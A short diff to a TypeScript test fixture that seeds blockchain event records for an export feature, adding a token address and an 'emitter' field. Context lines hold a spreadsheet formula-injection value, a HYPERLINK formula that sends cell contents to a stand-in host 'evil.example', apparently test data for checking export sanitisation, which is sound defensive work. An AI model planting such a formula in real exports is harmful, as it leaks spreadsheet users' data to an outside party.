@@ -27,6 +27,7 @@ export const W = {
   pkBank: A(0xc1),
   pool: A(0xe1),
   customer: A(0x101),
+  token: A(0x1d1),
 } as const;
 
 export const FORMULA_ENTITY = '=HYPERLINK("http://evil.example/?"&A1,"Gulf")';
@@ -97,6 +98,7 @@ export async function seedExportFixture(db: Db): Promise<ExportFixture> {
     blockTime: new Date(t0 + minute * 60_000),
     txHash: H(tx),
     logIndex: 5,
+    emitter: W.token,
     kind,
     actor: actor as `0x${string}`,
     subject: subject as `0x${string}`,
